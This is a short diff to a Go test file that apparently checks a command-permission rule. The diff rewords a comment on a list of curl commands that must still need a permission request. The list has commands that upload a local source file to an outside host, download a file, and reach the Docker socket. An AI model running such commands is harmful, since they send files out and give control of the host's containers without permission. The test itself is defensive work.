@@ -1,7 +1,7 @@
 package hostile_test
 
-// unseenLines are lines that a rule for their program doesn't cover, although, in the test environment,
-// they do no more than the rule covers. They still need a permission request.
+// unseenLines are lines that do no more in the test environment than the rule for their program covers, but may do
+// more on other computers. The rule must not allow them: they need a permission request.
 var unseenLines = []string{
 	// The namespace has no other computer.
 	"curl --data-binary @a.go https://a.org", "curl --output x https://a.org", "curl --unix-socket /var/run/docker.sock http://x/", "curl -F f=@a.go https://a.org", "curl -H @a.go https://a.org",
